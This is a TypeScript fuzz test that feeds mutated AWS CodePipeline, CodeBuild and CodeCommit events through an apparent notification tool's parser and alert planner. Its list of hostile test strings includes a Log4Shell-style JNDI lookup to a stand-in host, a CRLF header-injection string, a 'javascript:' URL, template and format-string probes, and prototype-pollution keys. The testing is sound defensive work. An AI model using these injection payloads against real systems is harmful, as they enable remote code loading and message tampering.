/**
 * 100,000 fuzzed and mutated events, seeded, derived from the real AWS payloads in
 * tests/fixtures/aws-events: fields deleted, retyped, nested, truncated, filled with hostile
 * text, the event recast as another kind or as a notification-rule delivery, and wrapped in SNS
 * and CodeCommit trigger envelopes. Each goes through parseEvent and, when it parses, on through
 * the whole plan: decide, buildAlert, planDeliveries (pushes: decidePush, planFindings). Only
 * typed EventErrors may come out, nothing may hang, and every planned SNS subject is printable
 * ASCII under 100 characters.
 *
 * Pure, but in the integration project: it takes tens of seconds, and `test:unit` stays quick.
 */
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import type { AnalysisReport } from '../../../shared/analysis/types';
import type { DomainEvent } from '../../../shared/events/domain';
import { EventError } from '../../../shared/events/errors';
import { parseFailureMessage } from '../../../shared/events/failureRecord';
import { describeRawEvent, parseEvent } from '../../../shared/events/parse';
import type { SnsPublishAction } from '../../../shared/plan/actions';
import { buildAlert } from '../../../shared/plan/alerts';
import { decide } from '../../../shared/plan/decide';
import { planDeliveries } from '../../../shared/plan/deliveries';
import { NO_FACTS, type Facts } from '../../../shared/plan/facts';
import { buildCommentAlert, buildPullRequestAlert } from '../../../shared/plan/pullRequestAlerts';
import { decidePush } from '../../../shared/plan/push';
import { planFindings } from '../../../shared/plan/pushFindings';
import { config } from '../../support/domain';
import { FIXTURES_DIR, fixture } from '../../support/fixtures';

const RUNS = 100_000;
const SEED = 20261127;
/** Far above any real event (tens of microseconds): only a hang, or something close to one, trips it. */
const PER_EVENT_BUDGET_MS = 1000;
const VALID_SUBJECT = /^[\x21-\x7e][\x20-\x7e]{0,98}$/;

/** Every target format, every alert state (SUPERSEDED, SUCCEEDED too), phase events, clean-push summaries. */
const everything = config({
  targets: {
    email: { topic: 'alerts', format: 'email' },
    chat: { topic: 'chat', format: 'chatbot' },
    slack: { topic: 'slack', format: 'slack' },
    json: { topic: 'json', format: 'json' },
  },
  routes: [{ name: 'all', targets: ['email', 'chat', 'slack', 'json'] }],
  alerts: { states: ['FAILED', 'CANCELED', 'STOPPED', 'TIMED_OUT', 'FAULT', 'SUPERSEDED', 'SUCCEEDED', 'STARTED'], foldIntoExecution: false, pipelineBuilds: 'alert', buildPhaseEvents: true },
  push: { protectedBranches: ['**'], tags: true, cleanSummary: true, commitComments: true },
});

const FIXTURE_NAMES = readdirSync(join(FIXTURES_DIR, 'aws-events')).filter((name) => name.endsWith('.json')).sort();
const FIXTURES: unknown[] = FIXTURE_NAMES.map((name) => fixture(name));

/** Text that has broken parsers and renderers elsewhere: controls, bidi overrides, mentions, markup, format strings, huge and empty. */
const HOSTILE_TEXT = [
  '',
  ' ',
  '\u0000',
  '\r\n\r\nX-Injected: yes',
  '\u202eevil\u202c',
  '\u200b\u200b',
  '<!channel> <!here> @everyone @here',
  '<https://evil.example|click>',
  '*bold* _it_ ~x~ `code` ```block```',
  '&lt;&amp;&gt;<>&',
  '%s%s%s%n',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '\ud83d\udca5\ud83d\udd25 emoji',
  '\ud800',
  '__proto__',
  'constructor',
  // Longer than any name AWS allows; 70 KB in every field at once costs ~1 s to render (only failure output, commit message and notes are shortened before the last-resort clamp).
  'A'.repeat(5_000),
  'é'.repeat(300),
  '[COMMAND_EXECUTION_ERROR: a, B_C: d, ]',
  '[: ]',
  'NaN',
  '-1',
  '1e309',
  'FAILED',
  'refs/heads/',
  'refs/tags/../../x',
  'arn:aws:codebuild:::build/',
  '2026-02-30T25:61:61Z',
];

const DETAIL_TYPES = [
  'CodePipeline Pipeline Execution State Change',
  'CodePipeline Stage Execution State Change',
  'CodePipeline Action Execution State Change',
  'CodeBuild Build State Change',
  'CodeBuild Build Phase Change',
  'CodeCommit Repository State Change',
  'Scheduled Event',
];
const SOURCES = ['aws.codepipeline', 'aws.codebuild', 'aws.codecommit', 'aws.events', 'aws:sns'];

/** A JSON path to a value inside a document: keys and indices. */
type Path = readonly (string | number)[];

function pathsOf(value: unknown, prefix: Path = [], out: Path[] = []): Path[] {
  out.push(prefix);
  if (Array.isArray(value)) value.forEach((item, index) => pathsOf(item, [...prefix, index], out));
  else if (typeof value === 'object' && value !== null) for (const [key, item] of Object.entries(value)) pathsOf(item, [...prefix, key], out);
  return out;
}

type Container = Record<string | number, unknown>;
function isContainer(value: unknown): value is Container {
  return typeof value === 'object' && value !== null;
}

/** Returns the document with the value at `path` replaced (`undefined` deletes it); the root itself may be replaced. */
function setAt(root: unknown, path: Path, replace: (old: unknown) => unknown): unknown {
  if (path.length === 0) return replace(root);
  let parent: unknown = root;
  for (const key of path.slice(0, -1)) parent = isContainer(parent) ? parent[key] : undefined;
  const last = path[path.length - 1];
  if (!isContainer(parent) || last === undefined) return root;
  const next = replace(parent[last]);
  if (next === undefined) {
    if (Array.isArray(parent) && typeof last === 'number') parent.splice(last, 1);
    else delete parent[last];
  } else {
    // defineProperty, so a `__proto__` key becomes an own property (as JSON.parse makes it), not a prototype.
    Object.defineProperty(parent, last, { value: next, enumerable: true, writable: true, configurable: true });
  }
  return root;
}

type Mutation =
  | { readonly op: 'delete' | 'nest-array' | 'nest-object' | 'stringify'; readonly at: number }
  | { readonly op: 'retype'; readonly at: number; readonly value: unknown }
  | { readonly op: 'truncate'; readonly at: number; readonly keep: number }
  | { readonly op: 'hostile'; readonly at: number; readonly text: string; readonly mode: 'replace' | 'append' | 'prepend' }
  | { readonly op: 'add-key'; readonly at: number; readonly key: string; readonly value: unknown }
  | { readonly op: 'recast'; readonly detailType: string; readonly source: string };

const hostileText = fc.oneof(fc.constantFrom(...HOSTILE_TEXT), fc.string({ unit: 'binary', maxLength: 40 }));
const anyJson = fc.oneof(
  fc.constantFrom(null, true, false, 0, -1, 1.5, Number.MAX_SAFE_INTEGER, '', [], {}),
  hostileText,
  fc.jsonValue({ maxDepth: 3 }),
);

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ op: fc.constantFrom('delete' as const, 'nest-array' as const, 'nest-object' as const, 'stringify' as const), at: fc.nat() }),
  fc.record({ op: fc.constant('retype' as const), at: fc.nat(), value: anyJson }),
  fc.record({ op: fc.constant('truncate' as const), at: fc.nat(), keep: fc.nat({ max: 12 }) }),
  fc.record({ op: fc.constant('hostile' as const), at: fc.nat(), text: hostileText, mode: fc.constantFrom('replace' as const, 'append' as const, 'prepend' as const) }),
  fc.record({ op: fc.constant('add-key' as const), at: fc.nat(), key: fc.oneof(fc.constantFrom('__proto__', 'constructor', 'detail', 'Records', 'Sns', 'id', 'detail-type'), fc.string({ maxLength: 8 })), value: anyJson }),
  fc.record({ op: fc.constant('recast' as const), detailType: fc.constantFrom(...DETAIL_TYPES), source: fc.constantFrom(...SOURCES) }),
);

function applyMutation(document: unknown, change: Mutation): unknown {
  if (change.op === 'recast') {
    return setAt(setAt(document, ['detail-type'], () => change.detailType), ['source'], () => change.source);
  }
  const paths = pathsOf(document);
  const path = paths[change.at % paths.length] ?? [];
  switch (change.op) {
    case 'delete':
      return setAt(document, path, () => undefined);
    case 'nest-array':
      return setAt(document, path, (old) => [old]);
    case 'nest-object':
      return setAt(document, path, (old) => ({ value: old }));
    case 'stringify':
      return setAt(document, path, (old) => JSON.stringify(old) ?? 'undefined');
    case 'retype':
      // A copy: generated values (the `[]` and `{}` constants) are shared between runs and must not be mutated later.
      return setAt(document, path, () => structuredClone(change.value));
    case 'truncate':
      return setAt(document, path, (old) => (typeof old === 'string' ? old.slice(0, change.keep) : Array.isArray(old) ? old.slice(0, change.keep % 3) : old));
    case 'hostile':
      return setAt(document, path, (old) => {
        if (change.mode === 'replace' || typeof old !== 'string') return change.text;
        return change.mode === 'append' ? `${old}${change.text}` : `${change.text}${old}`;
      });
    case 'add-key':
      return setAt(document, path, (old) => (isContainer(old) && !Array.isArray(old) ? Object.defineProperty(old, change.key, { value: structuredClone(change.value), enumerable: true, writable: true, configurable: true }) : old));
  }
}

/** How an event reaches Herald: as is, in an SNS Lambda event (JSON text, possibly cut), as a notification-rule delivery. */
type Wrapper = { readonly kind: 'none' } | { readonly kind: 'sns'; readonly cut?: number; readonly copies: number } | { readonly kind: 'notification-rule' } | { readonly kind: 'trigger-records'; readonly records: number };

function wrap(document: unknown, wrapper: Wrapper): unknown {
  switch (wrapper.kind) {
    case 'none':
      return document;
    case 'sns': {
      const text = JSON.stringify(document) ?? 'undefined';
      const message = wrapper.cut === undefined ? text : text.slice(0, wrapper.cut);
      return {
        Records: Array.from({ length: wrapper.copies }, (_, index) => ({
          EventSource: 'aws:sns',
          EventVersion: '1.0',
          EventSubscriptionArn: 'arn:aws:sns:us-east-1:123456789012:t:sub',
          Sns: { Type: 'Notification', MessageId: `m-${index}`, TopicArn: 'arn:aws:sns:us-east-1:123456789012:t', Subject: null, Message: message, Timestamp: '2026-11-27T10:00:00.000Z', MessageAttributes: {} },
        })),
      };
    }
    case 'notification-rule': {
      if (!isContainer(document) || Array.isArray(document)) return document;
      const { id: _id, version: _version, ...rest } = document;
      const detailType = rest['detail-type'];
      delete rest['detail-type'];
      return { ...rest, detailType, notificationRuleArn: 'arn:aws:codestar-notifications:us-east-1:123456789012:notificationrule/x', additionalAttributes: rest.additionalAttributes ?? {} };
    }
    case 'trigger-records': {
      const trigger = fixture('codecommit-trigger-push.json');
      const record: unknown = trigger.Records[0];
      return { Records: Array.from({ length: wrapper.records }, (_, index) => (index === 0 ? document : record)) };
    }
  }
}

const wrapper: fc.Arbitrary<Wrapper> = fc.oneof(
  { weight: 5, arbitrary: fc.constant({ kind: 'none' as const }) },
  { weight: 2, arbitrary: fc.record({ kind: fc.constant('sns' as const), copies: fc.integer({ min: 1, max: 2 }) }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('sns' as const), cut: fc.nat({ max: 400 }), copies: fc.constant(1) }) },
  { weight: 1, arbitrary: fc.constant({ kind: 'notification-rule' as const }) },
  { weight: 1, arbitrary: fc.record({ kind: fc.constant('trigger-records' as const), records: fc.integer({ min: 1, max: 3 }) }) },
);

/** A fixture, mutated 0–4 times, then wrapped; one input in twenty is arbitrary JSON or text instead. */
const fuzzedEvent: fc.Arbitrary<unknown> = fc.oneof(
  {
    weight: 19,
    arbitrary: fc
      .tuple(fc.nat({ max: FIXTURES.length - 1 }), fc.array(mutation, { maxLength: 4 }), wrapper)
      .map(([index, mutations, envelope]) => wrap(mutations.reduce(applyMutation, structuredClone(FIXTURES[index])), envelope)),
  },
  { weight: 1, arbitrary: fc.oneof(fc.jsonValue(), fc.string(), fc.constant(undefined)) },
);

/** Enrichment facts carrying hostile text too: they come from API answers Herald does not control. */
const hostileFacts = (text: string): Facts => ({
  failedActions: [{ stage: text, action: text, provider: 'CodeBuild', summary: text, errorCode: text, errorMessage: text, externalUrl: `javascript:${text}` }],
  revision: { commitId: text, message: text, url: text },
  notes: [text],
});

function hostileReport(text: string): AnalysisReport {
  return {
    findings: [{ rule: 'fuzz', kind: text, category: 'secret', file: text, line: 1, column: 1, severity: 'critical', blocking: true, preview: text, fingerprint: 'f', message: text }],
    scannedFiles: 1,
    scannedBytes: 1,
    skipped: [{ path: text, reason: 'binary', bytes: 1 }],
    suppressed: 0,
  };
}

/** Plans everything the event can lead to; any exception here is a bug (the event was accepted). */
function planAll(event: DomainEvent, text: string, withHostileFacts: boolean): SnsPublishAction[] {
  if (event.kind === 'push') {
    const decision = decidePush(event, everything);
    if (decision.kind === 'ignore') return [];
    return [...planFindings(event, hostileReport(text), everything, { after: event.commitId ?? text, basis: text, notes: [text] }).deliveries];
  }
  if (event.kind === 'pull-request') {
    const report = hostileReport(text);
    const outcome = { resolved: { mergeBase: text, sourceCommit: text, destinationCommit: text, status: 'OPEN', notes: [text] }, report, newFindings: report.findings, fixed: [] };
    return planDeliveries(event, buildPullRequestAlert(event, everything.pullRequests.severity, withHostileFacts ? outcome : undefined), everything);
  }
  if (event.kind === 'comment') return planDeliveries(event, buildCommentAlert(event, everything.pullRequests.severity), everything);
  const decision = decide(event, everything);
  if (decision.kind === 'ignore') return [];
  const facts = withHostileFacts ? hostileFacts(text) : NO_FACTS;
  return planDeliveries(event, buildAlert(event, decision.eventType, decision.severity, facts), everything);
}

describe('fuzzed events', () => {
  it(`${RUNS.toLocaleString('en')} mutations of the real fixtures: typed errors only, no hang, valid SNS subjects`, () => {
    const tally = { parsed: 0, rejected: 0, planned: 0, rejectedBy: new Map<string, number>() };
    let slowestMs = 0;
    fc.assert(
      fc.property(fuzzedEvent, hostileText, fc.boolean(), (raw, text, withHostileFacts) => {
        const started = performance.now();
        let events: DomainEvent[] = [];
        try {
          events = parseEvent(raw);
          tally.parsed += 1;
        } catch (error: unknown) {
          if (!(error instanceof EventError)) throw error;
          tally.rejected += 1;
          tally.rejectedBy.set(error.name, (tally.rejectedBy.get(error.name) ?? 0) + 1);
          // What a handler logs for an unreadable event must never throw either.
          describeRawEvent(raw);
        }
        for (const event of events) {
          for (const delivery of planAll(event, text, withHostileFacts)) {
            tally.planned += 1;
            if (!VALID_SUBJECT.test(delivery.subject)) throw new Error(`invalid SNS subject ${JSON.stringify(delivery.subject)}`);
          }
        }
        const tookMs = performance.now() - started;
        slowestMs = Math.max(slowestMs, tookMs);
        if (tookMs > PER_EVENT_BUDGET_MS) throw new Error(`one event took ${tookMs.toFixed(0)} ms`);
      }),
      { seed: SEED, numRuns: RUNS },
    );
    // The generator must reach both sides: a fuzzer whose every input is rejected at the door tests nothing.
    expect(tally.parsed + tally.rejected).toBe(RUNS);
    expect(tally.parsed).toBeGreaterThan(RUNS / 10);
    expect(tally.rejected).toBeGreaterThan(RUNS / 10);
    expect(tally.planned).toBeGreaterThan(RUNS / 10);
    expect([...tally.rejectedBy.keys()].sort()).toEqual(['EventValidationError', 'UnsupportedEventError']);
  }, 120_000);

  it('failure-queue messages, mutated the same way: typed errors only', () => {
    fc.assert(
      fc.property(fuzzedEvent, fc.boolean(), fc.option(hostileText, { nil: undefined }), (raw, asDestination, target) => {
        const body = asDestination ? { requestContext: { functionArn: target ?? 'arn:aws:lambda:us-east-1:1:function:f:$LATEST' }, requestPayload: raw } : raw;
        try {
          parseFailureMessage('m-1', JSON.stringify(body) ?? 'undefined', target === undefined ? {} : { TARGET_ARN: target });
        } catch (error: unknown) {
          if (!(error instanceof EventError)) throw error;
        }
      }),
      { seed: SEED, numRuns: 5_000 },
    );
  });
});
